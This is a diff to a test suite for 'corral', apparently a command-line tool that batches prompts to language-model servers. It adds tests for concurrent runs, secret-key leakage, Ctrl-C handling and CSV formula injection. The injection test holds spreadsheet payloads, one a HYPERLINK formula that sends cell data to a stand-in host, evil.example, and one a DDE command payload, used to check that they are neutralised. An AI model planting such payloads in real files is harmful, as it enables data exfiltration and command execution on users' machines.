@@ -345,7 +345,7 @@ def busy_503(work: Path, rows: int = 2000, rate: float = 0.3, slots: int = 4) ->
 
 # ---- 4. a server that accepts connections and never answers ------------------------------------
 
-def hung_server(work: Path, rows: int = 200, timeout: float = 1.0) -> Figures:
+def hung_server(work: Path, rows: int = 200, timeout: float = 1.0, alone: int = 20) -> Figures:
     """Three cases, each must end on its own: a server that hangs mid-run next to a good one (rows
     move to the good one), a hung server alone (rows fail with the timeout, the run ends), and a
     port that never answers even the probe (skipped after the probe timeout)."""
@@ -366,7 +366,7 @@ def hung_server(work: Path, rows: int = 200, timeout: float = 1.0) -> Figures:
         figures["beside_good_seconds"] = round(seconds, 1)
         figures["beside_good_hung_requests"] = len(hung.requests)
 
-        alone = min(rows, 20)
+        alone = min(rows, alone)
         write_prompts(work / "few.jsonl", alone)
         code, _, err, seconds = run_corral(
             ["run", "few.jsonl", "-m", "llama3.2", "-o", "alone.jsonl", "--server", hung.url,
@@ -689,7 +689,6 @@ def _input_command(kind: list[str], name: str, url: str) -> list[str]:
     if kind[0] == "analyze":
         return ["analyze", name, *kind[1:], "--server", url, "-m", "llama3.2", "-o", "out.csv",
                 "--progress", "none"]
-    (Path("p.jsonl"))
     return ["run", "ok.jsonl", "-c", name, "--server", url, "-m", "llama3.2", "-o", "out.jsonl"]
 
 
@@ -732,4 +731,241 @@ def bad_inputs(work: Path) -> Figures:
                         f"{len(odd)} odd but valid ones (BOMs, a 10 MB cell, a 10 MB prompt)")
     figures["result"] = (f"{len(results)}/{len(results)}: exit 2, one line `file:line: problem`, no "
                          f"traceback, nothing sent; the {len(odd)} valid ones run (exit 0)")
+    return figures
+
+
+# ---- 11. two runs on the same journal at once ---------------------------------------------------
+
+def two_runs(work: Path, rows: int = 400, latency: float = 0.05, slots: int = 4) -> Figures:
+    """A second `corral run` (same command, or another output on the same journal) while the first
+    is running: refused at once with a clear message, nothing sent, the first run's output and
+    journal intact. The same for a table job (`corral analyze`)."""
+    with FakeServer(slots=slots, latency=latency) as server:
+        write_prompts(work / "p.jsonl", rows)
+        args = ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
+                "-j", str(slots), "--progress", "none"]
+        first = start_corral(args, work)
+        server.wait_until(lambda s: s.completed >= 20, timeout=60)
+        sent = len(server.requests)
+        code, _, err_same, seconds = run_corral(args, work)
+        line_same = one_line_error(err_same)
+        assert code == 2 and "another corral process is writing this output" in line_same, err_same
+        other = [a if a != "out.jsonl" else "other.jsonl" for a in args]
+        code, _, err_store, _ = run_corral([*other, "--store", "out.jsonl.corral.db"], work)
+        line_store = one_line_error(err_store)
+        assert code == 2 and "in use by another corral process" in line_store, err_store
+        assert not (work / "other.jsonl.part").exists() and not (work / "other.jsonl").exists()
+        during = server.count_by_prompt()
+        _, err = first.communicate(timeout=300)
+        assert first.returncode == 0, err
+        out = read_rows(work / "out.jsonl")
+        lost, duplicated = exactly_once(out, rows)
+        sent_twice = sum(n > 1 for n in server.count_by_prompt().values())
+        assert not lost and not duplicated and sent_twice == 0, (lost, duplicated, sent_twice)
+        assert integrity(work / "out.jsonl.corral.db") == "ok"
+        assert sum(during.values()) >= sent  # (the refused runs sent nothing: no prompt twice)
+
+        # the same for a table job
+        (work / "t.csv").write_text("id,text\n" + "".join(f"{i},text {i}\n" for i in range(rows)),
+                                    encoding="utf-8")
+        table_args = ["analyze", "t.csv", "--text-column", "text", "--server", server.url,
+                      "-m", "llama3.2", "-o", "t_out.csv", "--progress", "none"]
+        before = server.completed
+        table = start_corral(table_args, work)
+        server.wait_until(lambda s: s.completed >= before + 10, timeout=60)
+        code, _, err_table, _ = run_corral(table_args, work)
+        line_table = one_line_error(err_table)
+        assert code == 2 and "another corral process is writing this output" in line_table, err_table
+        _, err = table.communicate(timeout=300)
+        assert table.returncode == 0, err
+        import pandas as pd
+
+        frame = pd.read_csv(work / "t_out.csv")
+        assert frame["id"].tolist() == list(range(rows)) and frame["response"].notna().all()
+    figures: Figures = {"rows": rows, "refused_seconds": round(seconds, 2), "lost": lost,
+                        "duplicated": duplicated, "sent_twice": sent_twice,
+                        "message_same_output": line_same, "message_same_store": line_store}
+    figures["setup"] = ("a second `corral run` (same command / other output, same --store) and a "
+                        "second `corral analyze` while the first runs")
+    figures["result"] = (f"refused in {seconds:.1f}s, exit 2: `{line_same[15:95]}...`; nothing "
+                         "sent twice; the first run completes exactly once, journal integrity ok")
+    return figures
+
+
+# ---- 12. CSV formula injection ------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "\t=1+1", "=1+1"]
+
+
+def formula_injection(work: Path) -> Figures:
+    """Answers (and JSON values) that a spreadsheet would run as formulas: written with a leading
+    ``'`` in CSV, as text cells in Excel; plain numbers such as -5 untouched."""
+    import pandas as pd
+
+    answers = FORMULAS + ["-5", "plain text"]
+    (work / "t.csv").write_text("id,text\n" + "".join(f"{i},row {i}\n" for i in range(len(answers))),
+                                encoding="utf-8")
+
+    def answer(body: dict[str, Any]) -> str:
+        i = int(body["messages"][-1]["content"].rsplit(" ", 1)[1])
+        return answers[i]
+
+    cells = 0
+    with FakeServer(responder=answer) as server:
+        for suffix in ("csv", "xlsx"):
+            code, _, err, _ = run_corral(
+                ["analyze", "t.csv", "--text-column", "text", "--prompt", "{text}", "--server",
+                 server.url, "-m", "llama3.2", "-o", f"out.{suffix}", "--progress", "none"], work)
+            assert code == 0, err
+        frame = pd.read_csv(work / "out.csv", dtype=str, keep_default_na=False)
+        expected = ["'" + a for a in FORMULAS] + ["-5", "plain text"]
+        assert frame["response"].tolist() == expected, frame["response"].tolist()
+        cells += len(FORMULAS)
+        import openpyxl
+
+        sheet = openpyxl.load_workbook(work / "out.xlsx").active
+        header = [c.value for c in sheet[1]]
+        column = header.index("response") + 1
+        kinds = [sheet.cell(row=r, column=column).data_type for r in range(2, len(answers) + 2)]
+        values = [sheet.cell(row=r, column=column).value for r in range(2, len(answers) + 2)]
+        assert set(kinds) == {"s"} and values[:len(FORMULAS)] == FORMULAS, (kinds, values)
+        formulas_in_sheet = sum(1 for row in sheet.iter_rows() for c in row if c.data_type == "f")
+        assert formulas_in_sheet == 0
+    figures: Figures = {"formula_answers": len(FORMULAS), "csv_neutralised": cells,
+                        "xlsx_formula_cells": 0}
+    figures["setup"] = ("answers starting with =, +, -, @, tab: " + ", ".join(f"`{a[:12]}`" for a in FORMULAS[:4]))
+    figures["result"] = (f"CSV: all {cells} prefixed with `'` (-5 and plain text untouched); "
+                         "Excel: 0 formula cells, all text")
+    return figures
+
+
+# ---- 13. an API key never lands anywhere ---------------------------------------------------------
+
+SECRET = "sk-corral-test-0123456789abcdefSECRET"
+
+
+def secrets(work: Path, rows: int = 60) -> Figures:
+    """An OpenAI-compatible server's key given through ``api_key_env``: after a run with debug
+    logging, failures and retries (the server quoting the key in its error text, as some proxies
+    do), the key is in no file of the run's folder (journal, WAL, outputs, log, manifest) and not in
+    anything corral printed."""
+    write_prompts(work / "p.jsonl", rows)
+    with FakeServer(api="openai", api_key=SECRET, slots=4) as server:
+        (work / "c.toml").write_text(
+            f'model = "llama3.2"\n[[servers]]\nurl = "{server.url}"\napi = "openai"\n'
+            'api_key_env = "CORRAL_TEST_KEY"\n', encoding="utf-8")
+        server.fail_message = f"Incorrect API key provided: {SECRET} (quota exceeded)"
+        server.fail_next(3, status=429)   # retried, logged with -v
+        server.fail_next(2, status=400)   # the rows' errors: journal, output, summary
+        args = ["run", "p.jsonl", "-c", "c.toml", "-o", "out.jsonl", "--output-dir", "answers",
+                "-vv", "--progress", "log"]
+        code, out, err, _ = run_corral(args, work, env={"CORRAL_TEST_KEY": SECRET})
+        assert code == 1, err[-2000:]  # the two 400 rows failed
+        (work / "run.log").write_text(out + err, encoding="utf-8")
+        quoted = [r for r in read_rows(work / "out.jsonl") if not r["success"]]
+        assert len(quoted) == 2 and all("***" in r["error"] for r in quoted), quoted
+        # a wrong key: the probe's refusal must not print the key either
+        code2, out2, err2, _ = run_corral(args, work, env={"CORRAL_TEST_KEY": SECRET[:-6] + "WRONG!"})
+        assert code2 == 2 and "authentication refused" in err2
+        (work / "run2.log").write_text(out2 + err2, encoding="utf-8")
+        assert len(server.requests) >= rows  # the key did reach the server
+    files = [p for p in work.rglob("*") if p.is_file()]
+    leaks = [str(p.relative_to(work)) for p in files if SECRET.encode() in p.read_bytes()]
+    for text in (out, err, out2, err2):
+        if SECRET in text or SECRET[:-6] in text:
+            leaks.append("printed output")
+    figures: Figures = {"files_scanned": len(files), "leaks": len(leaks)}
+    assert not leaks, leaks
+    figures["setup"] = ("key via api_key_env; -vv debug log, 429 retries and 400 errors whose text "
+                        "quotes the key; a run with a wrong key")
+    figures["result"] = (f"key found in 0 of {len(files)} files of the run folder (journal + WAL, "
+                         "outputs, per-prompt files, logs) and 0 printed lines; quoted keys "
+                         "shown as `***`")
+    return figures
+
+
+# ---- 14. Ctrl-C --------------------------------------------------------------------------------
+
+def _children(pid: int) -> list[int]:
+    """Direct children of ``pid`` (Linux /proc)."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                stat = (entry / "stat").read_text()
+            except OSError:
+                continue
+            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
+                found.append(int(entry.name))
+    return found
+
+
+def _alive(pid: int) -> bool:
+    try:
+        stat = Path(f"/proc/{pid}/stat").read_text()
+    except OSError:
+        return False
+    return stat.rsplit(")", 1)[1].split()[0] != "Z"
+
+
+def ctrl_c(work: Path, rows: int = 400, local: bool = False, slots: int = 8) -> Figures:
+    """SIGINT mid-run: corral must stop within seconds with exit 130, journal what arrived, leave no
+    child process (the embedded llama.cpp server with ``local``), and the re-run must resume.
+
+    With the fake server the re-sent requests are counted (at most the slots); with ``local`` the
+    re-run's rows that come from the journal are counted instead."""
+    with ExitStack() as stack:
+        db = work / "out.jsonl.corral.db"
+        if local:
+            write_prompts(work / "p.jsonl", rows, prefix="Name one fruit, then one colour. Item")
+            args = ["run", "p.jsonl", "--local", "--max-tokens", "12", "--temperature", "0",
+                    "--seed", "1", "-o", "out.jsonl", "--progress", "none"]
+            enough = 2
+        else:
+            server = stack.enter_context(FakeServer(slots=4, latency=0.05))
+            write_prompts(work / "p.jsonl", rows)
+            args = ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
+                    "-j", str(slots), "--progress", "none"]
+            enough = 30
+        proc = start_corral(args, work)
+        wait_for(lambda: journal_rows(db) >= enough or proc.poll() is not None, 300,
+                 "answers to be journaled", interval=0.1)
+        assert proc.poll() is None, proc.communicate()[1]
+        children = _children(proc.pid)
+        assert children or not local, "the local server should be a child of corral"
+        interrupted = time.monotonic()
+        proc.send_signal(signal.SIGINT)
+        _, err = proc.communicate(timeout=60)
+        stop_seconds = time.monotonic() - interrupted
+        assert proc.returncode == 130, err[-2000:]
+        assert "interrupted" in err and "Traceback" not in err, err[-2000:]
+        wait_for(lambda: not any(_alive(c) for c in children), 10, "the children to be gone")
+        journaled = journal_rows(db)
+        assert integrity(db) == "ok" and 0 < journaled < rows, journaled
+        if not local:
+            sent_before = {p for path, body in server.requests for p in _prompts_of(path, body)}
+            server.reset_stats()
+        code, _, err, _ = run_corral(args, work, timeout=600)
+        assert code == 0, err[-2000:]
+        out = read_rows(work / "out.jsonl")
+        lost, duplicated = exactly_once(out, rows)
+        from_store = sum(r["cached"] for r in out)
+        assert not lost and not duplicated and from_store == journaled, (lost, duplicated, from_store)
+        figures: Figures = {"rows": rows, "local": local, "stop_seconds": round(stop_seconds, 2),
+                            "journaled_at_stop": journaled, "children_left": 0,
+                            "from_store_on_rerun": from_store}
+        if not local:
+            resent = sum(1 for path, body in server.requests for p in _prompts_of(path, body)
+                         if p in sent_before)
+            figures["resent"] = resent
+            figures["in_flight_at_stop"] = len(sent_before) - journaled
+            assert resent <= len(sent_before) - journaled <= slots, figures
+    what = "the embedded llama.cpp server" if local else "a fake server"
+    figures["setup"] = f"SIGINT during a {rows}-row run on {what}"
+    figures["result"] = (f"exit 130 in {stop_seconds:.1f}s, {journaled} answers journaled, "
+                         + ("llama.cpp child gone; " if local else "")
+                         + f"the re-run takes {from_store} rows from the journal"
+                         + (f" and re-sends {figures['resent']} (<= in flight)" if not local else "")
+                         + ", lost 0, duplicated 0")
     return figures
